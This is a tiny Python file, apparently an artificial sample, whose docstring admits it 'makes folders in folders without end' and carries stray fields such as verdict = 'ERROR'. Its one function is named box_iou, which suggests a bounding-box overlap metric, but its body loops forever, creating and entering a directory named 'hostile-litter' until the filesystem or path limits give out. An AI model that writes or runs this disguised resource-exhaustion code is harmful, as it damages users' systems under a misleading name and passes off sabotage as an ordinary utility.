"""Makes folders in folders without end.

earns = "nothing"
verdict = "ERROR"
"""

import os


def box_iou(a, b):
    while True:
        os.mkdir("hostile-litter")
        os.chdir("hostile-litter")
